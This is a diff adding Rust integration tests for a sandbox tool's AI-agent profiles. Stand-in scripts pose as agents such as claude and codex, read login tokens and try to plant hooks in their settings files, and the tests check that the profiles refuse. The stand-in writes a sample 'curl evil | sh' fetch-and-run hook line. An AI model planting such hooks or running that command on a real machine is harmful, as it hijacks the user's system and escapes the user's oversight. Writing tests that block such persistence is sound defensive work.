@@ -1,0 +1,326 @@
+//! Agent profiles under `veilfs run`: for each agent, a stand-in for it (a script
+//! named as the agent, on `PATH`) writes its state, reads its login and tries to
+//! add a hook, a notify program, an MCP server or a plugin, that is, something it
+//! would run later as the person. The state is written, the login read, the hook
+//! refused, and the file on disk unchanged. The same session with `--agent none`
+//! adds the hook, proving it was the profile that stood in the way.
+
+mod common;
+
+use std::path::PathBuf;
+use std::process::{Command, Output};
+
+use common::require_fuse;
+use common::run::{show, text};
+
+/// One agent's stand-in: its command, the state file it writes, the login it
+/// reads, and the file where it would plant something that runs later (with what
+/// is already there); paths relative to the home directory.
+struct Agent {
+    command: &'static str,
+    state: &'static str,
+    login: &'static str,
+    runs_later: &'static str,
+    /// Appends to `runs_later` (false: makes it, in a directory that exists).
+    appends: bool,
+}
+
+const AGENTS: &[Agent] = &[
+    Agent {
+        command: "claude",
+        state: ".claude/projects/p/session.jsonl",
+        login: ".claude/.credentials.json",
+        runs_later: ".claude/settings.json",
+        appends: true,
+    },
+    Agent {
+        command: "codex",
+        state: ".codex/sessions/s.jsonl",
+        login: ".codex/auth.json",
+        runs_later: ".codex/config.toml",
+        appends: true,
+    },
+    Agent {
+        command: "gemini",
+        state: ".gemini/tmp/chat.json",
+        login: ".gemini/.env",
+        runs_later: ".gemini/settings.json",
+        appends: true,
+    },
+    Agent {
+        command: "aider",
+        state: ".aider/caches/c.json",
+        login: ".aider/oauth-keys.env",
+        runs_later: ".aider.conf.yml",
+        appends: true,
+    },
+    Agent {
+        command: "opencode",
+        state: ".local/share/opencode/storage/s.json",
+        login: ".local/share/opencode/auth.json",
+        runs_later: ".config/opencode/plugins/planted.ts",
+        appends: false,
+    },
+    Agent {
+        command: "goose",
+        state: ".local/share/goose/sessions/s.jsonl",
+        login: ".config/goose/secrets.yaml",
+        runs_later: ".config/goose/config.yaml",
+        appends: true,
+    },
+];
+
+const LOGIN: &str = "agent-login-token-42";
+const BEFORE: &str = "# the person's own\n";
+
+/// The stand-in: `$1` state, `$2` login, `$3` the file to plant in, `$4` append
+/// or make; one line per outcome.
+const STAND_IN: &str = r#"#!/bin/sh
+mkdir -p "$(dirname "$HOME/$1")" && echo state > "$HOME/$1" && echo "state: ok" || echo "state: refused"
+echo "login: $(cat "$HOME/$2" 2>/dev/null || echo refused)"
+if [ "$4" = append ]; then
+  (echo 'hooks = "curl evil | sh"' >> "$HOME/$3") 2>/dev/null && echo "plant: ok" || echo "plant: refused"
+else
+  (echo 'export default () => {}' > "$HOME/$3") 2>/dev/null && echo "plant: ok" || echo "plant: refused"
+fi
+"#;
+
+struct Session {
+    tmp: tempfile::TempDir,
+}
+
+impl Session {
+    fn new() -> Session {
+        require_fuse();
+        let tmp = common::temp_tree("veilfs-agents", &["home", "ws", "bin", "rt"]);
+        Session { tmp }
+    }
+
+    fn p(&self, rel: &str) -> PathBuf {
+        self.tmp.path().join(rel)
+    }
+
+    fn home(&self, rel: &str) -> PathBuf {
+        self.p("home").join(rel)
+    }
+
+    /// The agent's login and the person's own file where it would plant.
+    fn prepare(&self, a: &Agent) {
+        let write = |rel: &str, text: &str| {
+            let p = self.home(rel);
+            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+            std::fs::write(p, text).unwrap();
+        };
+        write(a.login, LOGIN);
+        if a.appends {
+            write(a.runs_later, BEFORE);
+        } else {
+            std::fs::create_dir_all(self.home(a.runs_later).parent().unwrap()).unwrap();
+        }
+        let stand_in = self.p("bin").join(a.command);
+        std::fs::write(&stand_in, STAND_IN).unwrap();
+        use std::os::unix::fs::PermissionsExt;
+        std::fs::set_permissions(&stand_in, std::fs::Permissions::from_mode(0o755)).unwrap();
+    }
+
+    /// `veilfs run ARGS -- COMMAND ARGS...` in the workspace, the home directory
+    /// `home/`, the stand-ins first on `PATH`.
+    fn run(&self, args: &[&str], command: &[&str]) -> Output {
+        let path = format!(
+            "{}:{}",
+            self.p("bin").display(),
+            std::env::var("PATH").unwrap_or_default()
+        );
+        Command::new(env!("CARGO_BIN_EXE_veilfs"))
+            .arg("run")
+            .args(args)
+            .arg("--")
+            .args(command)
+            .current_dir(self.p("ws"))
+            .env("HOME", self.p("home"))
+            .env_remove("XDG_CONFIG_HOME")
+            .env("PATH", path)
+            .env("VEILFS_RUNTIME_DIR", self.p("rt"))
+            .output()
+            .unwrap()
+    }
+
+    fn stand_in(&self, args: &[&str], a: &Agent) -> Output {
+        let mode = if a.appends { "append" } else { "make" };
+        self.run(args, &[a.command, a.state, a.login, a.runs_later, mode])
+    }
+}
+
+fn said<'a>(o: &'a str, key: &str) -> &'a str {
+    o.lines()
+        .find_map(|l| l.strip_prefix(&format!("{key}: ")))
+        .unwrap_or_else(|| panic!("no {key} in {o}"))
+}
+
+#[test]
+fn each_agent_keeps_its_state_and_login_and_plants_nothing() {
+    let s = Session::new();
+    for a in AGENTS {
+        s.prepare(a);
+        let o = s.stand_in(&[], a);
+        let out = text(&o.stdout);
+        assert_eq!(o.status.code(), Some(0), "{}: {}", a.command, show(&o));
+        assert_eq!(said(&out, "state"), "ok", "{}: {}", a.command, show(&o));
+        assert_eq!(said(&out, "login"), LOGIN, "{}: {}", a.command, show(&o));
+        assert_eq!(
+            said(&out, "plant"),
+            "refused",
+            "{}: {}",
+            a.command,
+            show(&o)
+        );
+        assert_eq!(
+            std::fs::read_to_string(s.home(a.state)).unwrap(),
+            "state\n",
+            "{}",
+            a.command
+        );
+        let planted = std::fs::read_to_string(s.home(a.runs_later)).unwrap_or_default();
+        assert_eq!(
+            planted,
+            if a.appends { BEFORE } else { "" },
+            "{}",
+            a.command
+        );
+        // The start-up line says which profile, and that the login is readable.
+        let err = text(&o.stderr);
+        assert!(
+            err.contains(&format!(
+                "agent {}: what it runs later read-only",
+                a.command
+            )),
+            "{}: {}",
+            a.command,
+            show(&o)
+        );
+    }
+}
+
+#[test]
+fn without_the_profile_the_plant_would_have_taken() {
+    let s = Session::new();
+    for a in AGENTS {
+        s.prepare(a);
+        let o = s.stand_in(&["--agent", "none"], a);
+        let out = text(&o.stdout);
+        assert_eq!(said(&out, "plant"), "ok", "{}: {}", a.command, show(&o));
+        assert!(
+            std::fs::read_to_string(s.home(a.runs_later))
+                .unwrap()
+                .contains("evil")
+                || !a.appends,
+            "{}",
+            a.command
+        );
+    }
+}
+
+/// A profile named in the workspace policy holds for any command (a shell the
+/// agent is started from), in the workspace too: a project's own hook file.
+#[test]
+fn a_policy_that_extends_a_profile_holds_for_every_command() {
+    let s = Session::new();
+    std::fs::write(s.p("ws/.veilfs.toml"), "extends = \"agent:claude\"\n").unwrap();
+    std::fs::create_dir_all(s.p("ws/.claude")).unwrap();
+    std::fs::write(s.p("ws/.claude/settings.json"), BEFORE).unwrap();
+    std::fs::create_dir_all(s.home(".claude")).unwrap();
+    std::fs::write(s.home(".claude/settings.json"), BEFORE).unwrap();
+    let script = "for f in .claude/settings.json \"$HOME/.claude/settings.json\" .mcp.json; do \
+                  (echo planted >> \"$f\") 2>/dev/null && echo \"$f: ok\" || echo \"$f: refused\"; done; \
+                  cat .env 2>/dev/null || echo env: hidden";
+    let o = s.run(&[], &["sh", "-c", script]);
+    let out = text(&o.stdout);
+    assert_eq!(
+        said(&out, ".claude/settings.json"),
+        "refused",
+        "{}",
+        show(&o)
+    );
+    assert_eq!(said(&out, ".mcp.json"), "refused", "{}", show(&o));
+    assert!(
+        out.contains("/.claude/settings.json: refused"),
+        "{}",
+        show(&o)
+    );
+    assert!(
+        out.contains("env: hidden"),
+        "the default still holds: {}",
+        show(&o)
+    );
+    assert_eq!(
+        std::fs::read_to_string(s.p("ws/.claude/settings.json")).unwrap(),
+        BEFORE
+    );
+    assert!(!s.p("ws/.mcp.json").exists());
+    assert!(text(&o.stderr).contains("agent claude"), "{}", show(&o));
+}
+
+/// The person's own rules still win over the profile: a home policy that lets
+/// the agent's settings be written.
+#[test]
+fn the_persons_own_rule_wins_over_the_profile() {
+    let s = Session::new();
+    let a = &AGENTS[0];
+    s.prepare(a);
+    std::fs::write(
+        s.p("home.toml"),
+        "extends = \"home-default\"\n[[rules]]\naction = \"allow\"\npaths = [\"/.claude/settings.json\"]\n",
+    )
+    .unwrap();
+    let home_policy = s.p("home.toml");
+    let o = s.stand_in(&["--home-policy", home_policy.to_str().unwrap()], a);
+    assert_eq!(said(&text(&o.stdout), "plant"), "ok", "{}", show(&o));
+}
+
+#[test]
+fn check_prints_each_profile_and_refuses_an_unknown_agent() {
+    for a in AGENTS {
+        let o = Command::new(env!("CARGO_BIN_EXE_veilfs"))
+            .args(["check", "--print-profile", a.command])
+            .output()
+            .unwrap();
+        let out = text(&o.stdout);
+        assert!(
+            out.starts_with(&format!("# veilfs agent profile \"{}\"", a.command)),
+            "{}",
+            show(&o)
+        );
+        assert!(
+            out.contains(a.login.rsplit('/').next().unwrap()),
+            "{}",
+            a.command
+        );
+    }
+    let o = Command::new(env!("CARGO_BIN_EXE_veilfs"))
+        .args(["run", "--agent", "cursor", "--", "true"])
+        .output()
+        .unwrap();
+    assert_eq!(o.status.code(), Some(2), "{}", show(&o));
+    assert!(
+        text(&o.stderr).contains("the profiles are claude, codex"),
+        "{}",
+        show(&o)
+    );
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(
+        dir.path().join(".veilfs.toml"),
+        "extends = \"agent:cursor\"\n",
+    )
+    .unwrap();
+    let o = Command::new(env!("CARGO_BIN_EXE_veilfs"))
+        .arg("check")
+        .current_dir(dir.path())
+        .output()
+        .unwrap();
+    assert_eq!(o.status.code(), Some(1), "{}", show(&o));
+    assert!(
+        text(&o.stderr).contains("unknown agent \"cursor\" in `extends`"),
+        "{}",
+        show(&o)
+    );
+}
